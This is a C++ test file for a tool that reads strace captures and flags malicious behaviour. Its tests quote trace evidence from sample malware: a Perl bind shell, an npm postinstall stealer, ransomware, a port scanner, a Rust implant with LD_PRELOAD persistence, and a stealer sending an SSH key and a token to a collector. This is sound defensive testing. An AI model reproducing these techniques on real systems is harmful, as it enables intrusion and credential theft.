                                 {"device_access", 3}, {"credential_agent_access", 1}, {"child_process_spawned", 1},
                                 {"fork_failure", 1},
                                 {"memory_exhausted", 1}, {"process_forked", 120}, {"io_uring_blind_spot", 2}}));
  const std::string log = "c_resource_abuse/strace_log";
  EXPECT_EQ(Str(FindingOf(*j, "process_storm"), "observation"),
            "fork storm: 121 process creations attempted by benchd (pid 50)");
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "fork_failure"), log, 546, "= -1 EAGAIN (Resource temporarily unavailable)"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "memory_exhausted"), log, 1140,
                          "mmap(NULL, 33554432, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0) = -1 ENOMEM"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "io_uring_blind_spot"), log, 1157, "io_uring_setup(4, "));
  // A ring can connect and send without a connect() in the trace: the network row names the
  // blind spot (low) instead of claiming no outbound attempt.
  EXPECT_EQ(TableRisk(*j, "network"), "low");
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "device_access"), log, 1163, "\"/dev/mem\", O_RDONLY) = -1 ENOENT"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "device_access"), log, 1167, "\"/dev/kmsg\", O_RDONLY) = -1 EPERM"));
  EXPECT_EQ(Str(FindingOf(*j, "credential_agent_access"), "observation"),
            "the user's credential agent contacted or attempted (1 call(s)): /tmp/ssh-XXXXqv3TnL/agent.412 by benchd "
            "(pid 50, ./benchd), result -1 ECONNREFUSED");
  EXPECT_EQ(Str(FindingOf(*j, "container_runtime_socket"), "observation"),
            "container runtime socket contacted or attempted (1 call(s)): connect /var/run/docker.sock by benchd "
            "(pid 50), result -1 ENOENT");
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "setuid_empty_argv"), log, 1197,
                          "execve(\"/usr/bin/true\", [], 0x7ffc5db4ff50 /* 0 vars */) = 0"));
  // argc 0: no command line, the program run is named by its path.
  EXPECT_EQ(Str(FindingOf(*j, "child_process_spawned"), "observation"),
            "the program ran 1 other program(s); first: [/usr/bin/true] (pid 172, parent pid 50)");
  // The storm's 119 children read the same: one line of the process tree, not 119.
  std::vector<std::string> tree;
  for (const std::string& line : Lines(*j, "process_tree"))
    if (!line.starts_with("(ps only)")) tree.push_back(line);
  EXPECT_EQ(tree, (std::vector<std::string>{"pid 50 ./benchd  (exit 0)  \u2190 target",
                                            "  \u2514\u2500 119 \u00d7 ./benchd  (killed by SIGKILL)  pids 51 \u2026 170",
                                            "  \u2514\u2500 pid 172 /usr/bin/true  (exit 0)"}));
}

// php -S: OPcache's MAP_HUGETLB segment refused with ENOMEM and retried as ordinary pages is no
// memory shortage; the only findings above info are the temporary files (low), and the run
// stopped by the harness's SIGTERM is not a crash (testdata/cases/php_builtin_server_clean).
TEST(EndToEnd, PhpBuiltinServerIsCleanDespiteItsHugePageAttempt) {
  CliRun r = Cli({"analyze", Case("cases/php_builtin_server_clean"), "--format", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"temp_write", 5}, {"listening_socket", 1}}));
  EXPECT_EQ(TableRisk(*j, "stability"), "safe");
}

// A non-blocking connect (EINPROGRESS) counts by what settled it: node's stage-2 download from
// 127.0.0.1:8088 connected (SO_ERROR [0] at strace_log.60:565), its three beacons to :4243 were
// refused (SO_ERROR [ECONNREFUSED]); curl's two downloads in sh_dropper_persistence connected.
TEST(EndToEnd, NonBlockingConnectsCountByTheirOutcome) {
  auto activity = [](const char* name) {
    CliRun r = Cli({"analyze", Case(name), "--format", "json"});
    EXPECT_EQ(r.code, 1) << name << r.err;
    auto j = ParseJson(r.out);
    std::vector<std::string> out;
    for (simdjson::dom::element line : j->root["network_activity"].get_array())
      out.emplace_back(std::string_view(line.get_string()));
    return out;
  };
  EXPECT_EQ(activity("cases/node_postinstall_stealer"),
            (std::vector<std::string>{"connect 127.0.0.1:4243 (loopback): 0 ok, 3 failed",
                                      "connect 127.0.0.1:8088 (loopback): 1 ok",
                                      "connect /var/run/nscd/socket (unix): 0 ok, 4 failed",
                                      "snapshot 127.0.0.1:* (loopback): 2 ok"}));
  const std::vector<std::string> dropper = activity("cases/sh_dropper_persistence");
  EXPECT_NE(std::find(dropper.begin(), dropper.end(), "connect 127.0.0.1:8081 (loopback): 2 ok"), dropper.end());
}

// The python3 capture of testdata/harness/apps/nonblocking_connect.py: four connects to a
// listener that never answers are neither failed nor made.
TEST(EndToEnd, UnsettledConnectsAreSaidToBeOfUnknownOutcome) {
  const std::string dir = ::testing::TempDir() + "/rundown_nonblocking_connect";
  fs::create_directories(dir);
  fs::copy_file(std::string(RUNDOWN_TESTDATA) + "/formats/strace/f_tt_T_yy_nonblocking_connect.txt", dir + "/strace_log",
                fs::copy_options::overwrite_existing);
  CliRun r = Cli({"analyze", dir, "--format", "json"});
  auto j = ParseJson(r.out);
  std::vector<std::string> connects;
  for (const std::string& line : Lines(*j, "network_activity"))
    if (line.starts_with("connect ")) connects.push_back(line);
  EXPECT_EQ(connects, (std::vector<std::string>{"connect 127.0.0.1:45213 (loopback): 1 ok",
                                                "connect 127.0.0.1:57115 (loopback): 0 ok, 1 failed",
                                                "connect 127.0.0.1:57447 (loopback): 0 ok, 4 outcome unknown",
                                                "connect [::1]:35281 (loopback): 1 ok"}));
}

// The file summary lists the first 15 notable paths of a class and counts the rest
// (testdata/cases/py_ransomware_home: 85 paths under home were written, created or deleted).
TEST(EndToEnd, FileSummarySaysHowManyPathsItLeftOut) {
  CliRun r = Cli({"analyze", Case("cases/py_ransomware_home"), "--format", "json"});
  auto j = ParseJson(r.out);
  std::vector<std::string> home;
  bool in_home = false;
  for (const std::string& line : Lines(*j, "file_activity")) {
    if (!line.starts_with("  ")) in_home = line.starts_with("home: ");
    if (in_home) home.push_back(line);
  }
  ASSERT_EQ(home.size(), 17u);
  EXPECT_EQ(home.front(), "home: 90 paths (44 read, 42 written, 40 created, 41 deleted, 0 only failed attempts)");
  EXPECT_EQ(home[1], "  /home/auditor/Documents/report_01.txt  (read, delete, 1 inotify events)");
  EXPECT_EQ(home.back(), "  \u2026 70 more such paths not listed");
}

// A scan is one line per host in the network summary, its ports as ranges
// (testdata/cases/py_port_scan_raw: 126 ports of 127.0.0.1, one open; 21 of ::1).
TEST(EndToEnd, ScannedPortsAreOneLinePerHost) {
  CliRun r = Cli({"analyze", Case("cases/py_port_scan_raw"), "--format", "json"});
  auto j = ParseJson(r.out);
  EXPECT_EQ(Lines(*j, "network_activity"), (std::vector<std::string>{
                       "connect 127.0.0.1 (loopback), 126 ports (1-120, 3306, 5432, 6379, 8080, 9200, 27017): 1 ok, 125 failed",
                       "connect [::1] (loopback), 21 ports (20-40): 0 ok, 21 failed",
                       "send 127.0.0.1:53 (loopback): 1 ok",
                       "send 127.0.0.1:123 (loopback): 1 ok",
                       "send 127.0.0.1:161 (loopback): 1 ok",
                       "snapshot 127.0.0.1:* (loopback): 3 ok",
                       "snapshot 0.0.0.0:35463 (unspecified): 1 ok",
                   }));
}

// Ruby WEBrick: threads are not processes, WEBrick's "ERROR `/favicon.ico' not found." for a 404
// is no finding, and the trapped SIGTERM ends in exit 0 (testdata/cases/ruby_webrick_clean).
TEST(EndToEnd, RubyWebrickThreadsAndItsNotFoundErrorAreNotFindings) {
  CliRun r = Cli({"analyze", Case("cases/ruby_webrick_clean"), "--format", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"listening_socket", 1}}));
  std::string_view root;
  ASSERT_EQ(j->root["process_tree"].at(0).get(root), simdjson::SUCCESS);
  EXPECT_EQ(root, "pid 45 ruby server.rb  [4 threads]  (exit 0)  \u2190 target");
}

// A launcher chain in the root (unshare -> sh -c 'exec ...' -> python3) is the target's start,
// not a spawn; the shell the target itself runs is (testdata/cases/launcher_chain_shell).
TEST(EndToEnd, LauncherChainIsTheStartAndTheTargetsShellIsASpawn) {
  CliRun r = Cli({"analyze", Case("cases/launcher_chain_shell"), "--format", "json", "--allow-missing", "inotify"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "FAIL");
  std::map<std::string, uint64_t> fired;
  for (simdjson::dom::element f : Fired(*j, "process", true)) fired[Str(f, "rule")] = Num(f, "count");
  EXPECT_EQ(fired, (std::map<std::string, uint64_t>{
                       {"shell_spawned", 1}, {"child_process_spawned", 2}, {"process_forked", 2}}));
  for (simdjson::dom::element f : Fired(*j, "process")) {
    if (Str(f, "rule") != "shell_spawned") continue;
    EXPECT_EQ(Str(f, "observation"), "the program started a shell: /bin/sh -c id (pid 18019, parent python3 pid 18018)");
    EXPECT_TRUE(AnyEvidence(f, "launcher_chain_shell/strace_log", 951, "execve(\"/bin/sh\", [\"/bin/sh\", \"-c\", \"id\"]"));
  }
  std::string_view root;
  ASSERT_EQ(j->root["process_tree"].at(0).get(root), simdjson::SUCCESS);
  EXPECT_EQ(root, "pid 18018 /usr/bin/python3 /tmp/cap3/app.py  exec chain: /usr/bin/unshare \u2192 /usr/bin/sh \u2192 "
                  "/usr/bin/python3  (exit 0)  \u2190 target");
}

// The markdown's activity sections come from the model, with counts equal to the raw lines:
// p1 accepted 7 connections on :3000 and 2 on :3001 (grep -c accept4 over strace_log.28), and
// its 10 threads are one process.
TEST(EndToEnd, MarkdownActivityCountsMatchTheRawLines) {
  CliRun r = Cli({"analyze", Case("p1_chat_clean_ff")});
  ASSERT_EQ(r.code, 0) << r.err;
  for (const char* line : {"pid 28 node app.js  [10 threads]  (exit 0)  \u2190 target\n",
                           "accept (peer not recorded) on port 3000 (unknown): 7 ok\n",
                           "accept (peer not recorded) on port 3001 (unknown): 2 ok\n",
                           "listen [::]:3000 (unspecified): 1 ok\n", "listen 0.0.0.0:3001 (unspecified): 1 ok\n",
                           "  /home/auditor/app/data/history.ndjson  (write\u00d74, create, 13 inotify events)\n",
                           "1180 calls, 58 distinct.\n", "| futex | 137 | 8 |\n"})
    EXPECT_NE(r.out.find(line), std::string::npos) << line;
  std::ifstream f(Case("p1_chat_clean_ff") + "/strace_log.28");
  int accepts = 0;
  for (std::string l; std::getline(f, l);) accepts += l.find(" accept4(") != std::string::npos && l.find(" = -1 ") == std::string::npos;
  EXPECT_EQ(accepts, 9);
}

// `npm start`: npm (a #!/usr/bin/env node script) and the `sh -c` it runs the package script
// with are the launcher; the server it starts is the target. Nothing but the listener fires
// (testdata/cases/npm_start_clean/EXPECTED.md).
TEST(EndToEnd, NpmStartIsALauncherNotASpawn) {
  CliRun r = Cli({"analyze", Case("cases/npm_start_clean"), "--format", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "PASS");
  std::vector<std::string> fired;
  for (const char* c : {"process", "network", "file", "privilege", "dependencies", "stability", "backdoor"})
    for (simdjson::dom::element f : Fired(*j, c, true)) fired.push_back(Str(f, "rule"));
  EXPECT_EQ(fired, std::vector<std::string>{"listening_socket"});
}

// strace -e trace=network: the categories whose calls were filtered out are not assessed,
// never "safe", and the verdict says why (testdata/cases/py_filtered_trace/EXPECTED.md).
TEST(EndToEnd, FilteredTraceLeavesItsBlindCategoriesNotAssessed) {
  CliRun r = Cli({"analyze", Case("cases/py_filtered_trace"), "--format", "json"});
  ASSERT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  std::vector<std::string> risks;
  for (const char* c : {"process", "network", "file", "privilege", "dependencies", "stability", "backdoor"})
    risks.push_back(StrCat(c, "=", TableRisk(*j, c)));
  EXPECT_EQ(risks, (std::vector<std::string>{"process=not-assessed", "network=safe", "file=not-assessed",
                                             "privilege=not-assessed", "dependencies=safe", "stability=safe",
                                             "backdoor=not-assessed"}));
  std::string_view why;
  ASSERT_EQ(j->root["verdict_reasons"].at(0).get(why), simdjson::SUCCESS);
  EXPECT_EQ(why, "the trace is filtered (strace -e trace=...): process, file, privilege, backdoor not assessed");
  // The trace has no execve of pid 17501: its program is unknown, and said so (not "by ?").
  EXPECT_EQ(TableField(*j, "network", "observation"),
            "connects to local services: first 127.0.0.1:9 by an unknown program (pid 17501) failed ECONNREFUSED; 1 attempt(s)");
}

// The overview names what the reviewer ran: the exec that started the target, after a
// launcher chain (unshare ... sh -c 'exec python3 app.py' hands over to python), and not a
// program the target later replaced itself with (start.sh exec'ing python3 is a finding).
TEST(EndToEnd, TargetIsTheProgramThatWasStarted) {
  for (const auto& [name, target] : std::vector<std::pair<std::string, std::string>>{
           {"cases/launcher_chain_shell", "/usr/bin/python3 /tmp/cap3/app.py"},
           {"cases/sh_script_crash", "./start.sh"},
           {"cases/java_socket_clean", "java -cp app Hello"}}) {
    CliRun r = Cli({"analyze", Case(name), "--format", "json"});
    auto j = ParseJson(r.out);
    EXPECT_EQ(Str(j->root["overview"], "target"), target) << name;
  }
}

// strace -z hid the refused connect: rows that saw nothing stay safe but say that no call
// failed in the whole trace (testdata/cases/py_successful_only_z/EXPECTED.md); rows that
// also read the program.log this capture lacks are not assessed.
TEST(EndToEnd, TraceWithoutAnyFailedCallSaysSo) {
  CliRun r = Cli({"analyze", Case("cases/py_successful_only_z"), "--format", "json"});
  ASSERT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  const std::string caveat =
      "no system call in the trace failed (470 calls): if it was captured with strace -z (--successful-only), "
      "failed attempts are not in it";
  // Every row the trace clears (network_tool_not_found and privilege_tool_not_found read a
  // shell's PATH search in the trace as well as its "not found" in program.log, which this
  // capture lacks) says what -z may have hidden: a refused connect, setuid(0) or lookup.
  for (const char* c : {"process", "network", "file", "privilege", "backdoor"}) {
    EXPECT_EQ(TableRisk(*j, c), "safe") << c;
    EXPECT_NE(TableField(*j, c, "comments").find(caveat), std::string::npos) << c;
  }
  // The capture has no socket snapshot: the row says what it was assessed without (before:
  // nothing, a plain "safe" beside an INCONCLUSIVE verdict for that very source).
  EXPECT_EQ(TableField(*j, "network", "comments"),
            "checked by no_outbound_network_attempt; assessed without the socket snapshot (ss.txt or netstat.txt), "
            "which is missing: what only it would show is not assessed; " + caveat);
  EXPECT_EQ(TableRisk(*j, "dependencies"), "not-assessed");  // program.log's missing modules
  // A trace with failed calls (the same kind of program, without -z) says nothing of it.
  CliRun clean = Cli({"analyze", Case("cases/py_filtered_trace"), "--format", "json"});
  EXPECT_EQ(clean.out.find("no system call in the trace failed"), std::string::npos);
}

// Perl bind shell (testdata/cases/perl_bind_shell, -f -tt -y -X verbose): the listen on
// 0.0.0.0:4444 and the accepted socket dup2()ed onto 0/1/2 in the forked child are one
// finding of the network row; socket_as_stdio cites the three dup2 lines.
TEST(EndToEnd, BindShellIsTheListenAndTheAcceptedSocketOnStdio) {
  CliRun r = Cli({"analyze", Case("cases/perl_bind_shell"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(TableRisk(*j, "network"), "critical");
  std::map<std::string, uint64_t> network;
  for (simdjson::dom::element f : Fired(*j, "network", true)) network[Str(f, "rule")] = Num(f, "count");
  EXPECT_EQ(network, (std::map<std::string, uint64_t>{{"bind_shell", 1}, {"listening_socket", 1}}));
  for (simdjson::dom::element f : Fired(*j, "network")) {
    EXPECT_EQ(Str(f, "observation"),
              "bind shell: a connection accepted on 0.0.0.0:4444 became fd 0 of perl (pid 55); anyone who can "
              "reach the port gets what that process runs");
    EXPECT_TRUE(AnyEvidence(f, "perl_bind_shell/strace_log", 830, "listen(3<socket:[190179752]>, 1) = 0"));
    EXPECT_TRUE(AnyEvidence(f, "perl_bind_shell/strace_log", 851,
                            "dup2(4<socket:[190179753]>, 0</dev/null>) = 0<socket:[190179753]>"));
  }
  for (simdjson::dom::element f : Fired(*j, "backdoor")) {
    if (Str(f, "rule") != "socket_as_stdio") continue;
    EXPECT_EQ(Num(f, "count"), 3u);
    for (uint64_t line : {851, 852, 853}) EXPECT_TRUE(AnyEvidence(f, "perl_bind_shell/strace_log", line, "dup2(4<socket:"));
  }
  // inotifywait's epoch seconds (%s) cover 00:19:30 as a whole second, which the trace
  // (00:19:30.377968-00:19:32.332251) overlaps.
  for (simdjson::dom::element c : j->root["coverage"].get_array()) {
    if (Str(c, "source") == "inotify") {
      EXPECT_EQ(Str(c, "overlaps_trace"), "yes (time of day taken as UTC)");
    }
  }
  std::vector<std::string> tree;
  for (simdjson::dom::element row : j->root["process_tree"].get_array()) tree.push_back(std::string(row.get_string().value()));
  ASSERT_GE(tree.size(), 3u);
  EXPECT_EQ(tree[0], "pid 48 /usr/bin/perl sysmon.pl  (exit 0)  \u2190 target");
  EXPECT_EQ(tree[1], "  \u2514\u2500 pid 55 /bin/sh -i  (exit 0)");
  EXPECT_EQ(tree[2], "    \u2514\u2500 pid 59 id  (exit 0)");
}

// The npm hook's stage 2 (testdata/cases/node_postinstall_stealer): fetched by node's own
// HTTP client, written to /tmp/.cache/update.js, run as `node /tmp/.cache/update.js`; the
// shell found by a PATH search is one shell, cited at its successful execve.
TEST(EndToEnd, StageTwoWrittenToTmpThenRunByNodeIsADownloadAndExecute) {
  CliRun r = Cli({"analyze", Case("cases/node_postinstall_stealer"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  std::map<std::string, uint64_t> process;
  for (simdjson::dom::element f : Fired(*j, "process", true)) process[Str(f, "rule")] = Num(f, "count");
  EXPECT_EQ(process, (std::map<std::string, uint64_t>{{"shell_spawned", 1},
                                                       {"script_from_temp", 1},
                                                       {"child_process_spawned", 5},
                                                       {"process_forked", 5}}));
  int checked = 0;
  for (const char* category : {"process", "backdoor"}) {
    for (simdjson::dom::element f : Fired(*j, category)) {
      const std::string rule = Str(f, "rule");
      if (rule == "download_then_execute") {
        ++checked;
        EXPECT_EQ(Str(f, "observation"),
                  "a program fetched something from 127.0.0.1:8088, wrote /tmp/.cache/update.js, and then node "
                  "/tmp/.cache/update.js was run from a temporary directory");
        EXPECT_TRUE(AnyEvidence(f, "node_postinstall_stealer/strace_log.60", 560, "sin_port=htons(8088)"));
        EXPECT_TRUE(AnyEvidence(f, "node_postinstall_stealer/strace_log.60", 578,
                                "\"/tmp/.cache/update.js\", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC"));
        EXPECT_TRUE(AnyEvidence(f, "node_postinstall_stealer/strace_log.75", 45,
                                "execve(\"/usr/bin/node\", [\"node\", \"/tmp/.cache/update.js\"]"));
      } else if (rule == "script_from_temp") {
        ++checked;
        EXPECT_EQ(Str(f, "observation"),
                  "a script in a temporary directory was run: node /tmp/.cache/update.js (pid 75, parent node pid 60); "
                  "1 time(s)");
        EXPECT_TRUE(AnyEvidence(f, "node_postinstall_stealer/strace_log.75", 45, ") = 0"));
      } else if (rule == "shell_spawned") {
        ++checked;
        EXPECT_EQ(f["evidence"].get_array().size(), 1u);
        EXPECT_TRUE(AnyEvidence(f, "node_postinstall_stealer/strace_log.69", 45, "execve(\"/usr/bin/sh\""));
      }
    }
  }
  EXPECT_EQ(checked, 3);
}

// A reviewer saved ss's table as netstat.txt and the program's output as stdout.txt: p1 is
// still PASS with every source assessed, and the report says how netstat.txt was read.
TEST(EndToEnd, MisnamedSnapshotIsReadAsWhatItHoldsWithANote) {
  fs::path dir = CopyCase("p1_chat_clean_ff", {});
  fs::rename(dir / "ss.txt", dir / "netstat.txt");
  fs::rename(dir / "program.log", dir / "stdout.txt");
  CliRun r = Cli({"analyze", dir.string(), "--format", "json"});
  EXPECT_EQ(r.code, 0) << r.out.substr(0, 2000);
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "PASS");
  EXPECT_EQ(j->root["missing_sources"].get_array().size(), 0u);
  std::vector<std::string> notes;
  for (simdjson::dom::element n : j->root["notes"].get_array()) notes.emplace_back(n.get_string().value());
  const std::string expected = (dir / "netstat.txt").string() + ": named like netstat output, but holds ss's table: read as ss";
  EXPECT_NE(std::find(notes.begin(), notes.end(), expected), notes.end()) << r.out.substr(r.out.find("\"notes\""));
  fs::remove_all(dir);
}

// A program that prints terminal escape sequences (clear screen, a fake all-clear) and a
// binary ss.txt: the Markdown report shows them escaped and stays UTF-8, and the JSON report
// stays valid JSON (ParseJson checks UTF-8).
TEST(EndToEnd, HostileBytesInInputsAreEscapedInTheReports) {
  fs::path dir = CopyCase("p4_shell_spawn", {});
  std::ofstream(dir / "program.log", std::ios::app) << "\x1b[2J\x1b[H\x1b[32mPASS: no findings\x1b[0m\n";
  std::string garbage = "\xc0\xaf\xff\xfe";
  garbage += std::string("\0\x1b\x9b\n", 4);
  std::ofstream(dir / "ss.txt", std::ios::app | std::ios::binary) << garbage;
  CliRun md = Cli({"analyze", dir.string()});
  EXPECT_EQ(md.code, 1);
  EXPECT_EQ(md.out.find('\x1b'), std::string::npos);
  EXPECT_TRUE(simdjson::validate_utf8(md.out.data(), md.out.size()));
  EXPECT_NE(md.out.find("`\\xc0\\xaf\\xff\\xfe\\x00\\x1b\\x9b`"), std::string::npos)
      << md.out.substr(md.out.find("## Input diagnostics"));
  CliRun js = Cli({"analyze", dir.string(), "--format", "json"});
  auto j = ParseJson(js.out);
  EXPECT_EQ(Str(j->root, "verdict"), "FAIL");
  fs::remove_all(dir);
}

// A server the harness had to kill (testdata/cases/c_sigkill_stop): its SIGTERM handler only
// starts draining (strace_log:47, si_pid=1), so PID 1 sends SIGKILL 1 s later. The overview
// said only "killed by SIGKILL", which reads like the OOM killer; it names the harness's stop
// now. Killed by the stop signal itself (py_http_clean, no handler) says that too. Neither
// is a crash, and both stay PASS.
TEST(EndToEnd, AKillAfterTheHarnessStopSignalSaysSo) {
  CliRun r = Cli({"analyze", Case("cases/c_sigkill_stop"), "--format", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root["overview"], "exit_status"),
            "killed by SIGKILL 1.004 s after the harness's stop signal (SIGTERM) did not end it");
  EXPECT_TRUE(Fired(*j, "stability").empty());
  CliRun t = Cli({"analyze", Case("cases/py_http_clean"), "--format", "json"});
  ASSERT_EQ(t.code, 0) << t.err;
  EXPECT_EQ(Str(ParseJson(t.out)->root["overview"], "exit_status"), "killed by SIGTERM, the harness's stop signal");
}

// Go (testdata/cases/go_http_clean, -ff -tt -T -yy): a static net/http server whose runtime
// makes 6 threads with clone(CLONE_VM|...|CLONE_THREAD), installs a handler for every signal,
// preempts goroutines with tgkill(920, 923, SIGURG) and exits on another thread after
// signal.Notify caught SIGTERM. Only the listener is a finding; the threads are one process.
TEST(EndToEnd, GoRuntimeThreadsAndPreemptionSignalsAreNotFindings) {
  CliRun r = Cli({"analyze", Case("cases/go_http_clean"), "--format", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto j = ParseJson(r.out);
  std::map<std::string, uint64_t> fired;
  for (simdjson::dom::element f : j->root["findings"].get_array())
    if (Str(f, "status") == "fired") fired[Str(f, "rule")] = Num(f, "count");
  EXPECT_EQ(fired, (std::map<std::string, uint64_t>{{"listening_socket", 1}}));
  for (simdjson::dom::element f : Fired(*j, "network", true)) {
    EXPECT_TRUE(AnyEvidence(f, "go_http_clean/strace_log.926", 27, "listen(3<TCP:[127.0.0.1:8091]>, 4096) = 0"));
  }
  std::string_view root;
  ASSERT_EQ(j->root["process_tree"].at(0).get(root), simdjson::SUCCESS);
  EXPECT_EQ(root, "pid 920 ./notesd  [6 threads]  (exit 0)  \u2190 target");
  EXPECT_EQ(Str(j->root["overview"], "exit_status"), "exited with 0 after the harness's stop signal");
  EXPECT_EQ(Str(j->root["overview"], "life"), "reached steady state: program.log reports it is listening");
  std::vector<std::string> net;
  for (simdjson::dom::element line : j->root["network_activity"].get_array())
    net.emplace_back(std::string_view(line.get_string()));
  EXPECT_EQ(net, (std::vector<std::string>{"accept 127.0.0.1:* (loopback): 10 ok", "bind 127.0.0.1:8091 (loopback): 1 ok",
                                           "listen 127.0.0.1:8091 (loopback): 1 ok",
                                           "snapshot 127.0.0.1:* (loopback): 9 ok"}));
  EXPECT_EQ(Num(j->root, "diagnostics_total", 99), 0u);
  for (const char* c : {"process", "network", "file", "privilege", "dependencies", "stability", "backdoor"}) {
    EXPECT_EQ(TableRisk(*j, c), "safe") << c;
  }
}

// A Rust implant (testdata/cases/rust_antidebug_c2, -f -tt -T -yy -v -s 256): PTRACE_TRACEME
// refused under strace, other processes' environ, a /tmp library preloaded into its shell
// (LD_PRELOAD in the -v environment: env_code_hook), /etc/ld.so.preload refused, orders taken over an
// abstract UNIX socket and run with sh (no socket on the shell's stdio), and its own
// executable unlinked at the end (found because the
// relative `execve("./sysagent")` resolves from the first AT_FDCWD annotation).
TEST(EndToEnd, RustImplantAbstractSocketC2AndSelfDeletionAreFindings) {
  CliRun r = Cli({"analyze", Case("cases/rust_antidebug_c2"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"persistence_write", 1},
                                                               {"shell_spawned", 1},
                                                               {"library_from_temp", 3},
                                                               {"other_process_memory", 6},
                                                               {"ptrace_call", 1},
                                                               {"executed_file_deleted", 1},
                                                               {"abstract_socket_connect", 1},
                                                               {"shell_after_command_received", 1},
                                                               {"env_code_hook", 1},
                                                               {"child_process_spawned", 3},
                                                               {"account_database_read", 3},
                                                               {"process_forked", 3},
                                                               {"temp_write", 2},
                                                               {"deceptive_file_name", 2}}));
  const std::string log = "rust_antidebug_c2/strace_log";
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "deceptive_file_name"), log, 141, "\"/tmp/.X11-unix/.libXau.so.6\", O_WRONLY|O_CREAT"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "env_code_hook"), log, 322, "\"LD_PRELOAD=/tmp/.X11-unix/.libXau.so.6\"]"));
  EXPECT_EQ(Str(FindingOf(*j, "env_code_hook"), "observation"),
            "a program was started with foreign code hooked in through its environment: "
            "LD_PRELOAD=/tmp/.X11-unix/.libXau.so.6 for /bin/sh (pid 101), started by sysagent (pid 100); 1 exec(s)");
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "executed_file_deleted"), log, 779, "unlink(\"/home/auditor/app/sysagent\") = 0"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "abstract_socket_connect"), log, 152, "sun_path=@\".X11-session-7\"}, 17) = 0"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "ptrace_call"), log, 60, "ptrace(PTRACE_TRACEME) = -1 EPERM"));
  simdjson::dom::element tasked = FindingOf(*j, "shell_after_command_received");
  EXPECT_TRUE(AnyEvidence(tasked, log, 185, "read(3<UNIX-STREAM:[191953202->191953162]>, \"RUN id; uname -n\\n\", 512) = 17"));
  EXPECT_TRUE(AnyEvidence(tasked, log, 322, "execve(\"/bin/sh\", [\"/bin/sh\", \"-c\", \"id; uname -n\"]"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "persistence_write"), log, 144, "\"/etc/ld.so.preload\", O_WRONLY|O_CREAT|O_APPEND"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "other_process_memory"), log, 104, "\"/proc/85/environ\", O_RDONLY|O_CLOEXEC) = 3"));
  EXPECT_EQ(Str(FindingOf(*j, "other_process_memory"), "observation"),
            "another process's environ opened or attempted: /proc/1/environ by sysagent (pid 100), result -1 EACCES; "
            "6 open(s), refused ones included");
  EXPECT_EQ(Str(FindingOf(*j, "persistence_write"), "observation"),
            "persistence location written or attempted: openat /etc/ld.so.preload by sysagent (pid 100), result -1 EACCES; "
            "1 write(s), refused ones included");
  EXPECT_EQ(Str(FindingOf(*j, "executed_file_deleted"), "observation"),
            "a program deleted after it ran: /home/auditor/app/sysagent by sysagent (pid 100) with unlink; 1 deletion(s)");
  EXPECT_EQ(Lines(*j, "network_activity"), (std::vector<std::string>{"connect /var/run/nscd/socket (unix): 0 ok, 4 failed",
                                                                       "connect @.X11-session-7 (unix): 1 ok"}));
  EXPECT_EQ(TableRisk(*j, "network"), "medium");
  EXPECT_EQ(TableField(*j, "backdoor", "comments"),
            "persistence_write @ strace_log:144; executed_file_deleted @ strace_log:779; "
            "env_code_hook @ strace_log:322; shell_after_command_received @ strace_log:185");
  EXPECT_EQ(Num(j->root, "diagnostics_total", 99), 0u);
}

// What a stealer sends (testdata/cases/py_key_exfil, strace -s 256): the bytes it read from
// ~/.ssh/id_rsa in its POST body, a GitHub token in a header, both requests for an outside
// host sent to a loopback collector.
TEST(EndToEnd, SecretsInTheSentBuffersAreFindings) {
  CliRun r = Cli({"analyze", Case("cases/py_key_exfil"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "FAIL");
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"secret_file_sent", 1},
                                                               {"secret_read_then_connect", 1},
                                                               {"credential_file_read", 2},
                                                               {"secret_sent", 1},
                                                               {"http_request_outside_host", 2},
                                                               {"loopback_connect", 2}}));
  const std::string log = "py_key_exfil/strace_log";
  simdjson::dom::element sent = FindingOf(*j, "secret_file_sent");
  EXPECT_EQ(Str(sent, "severity"), "critical");
  EXPECT_EQ(Str(sent, "observation"),
            "bytes read from /home/auditor/.ssh/id_rsa were sent by python3 (pid 56) with sendto to 127.0.0.1:8451; "
            "1 send(s) (seen in the part of the buffers strace -s printed)");
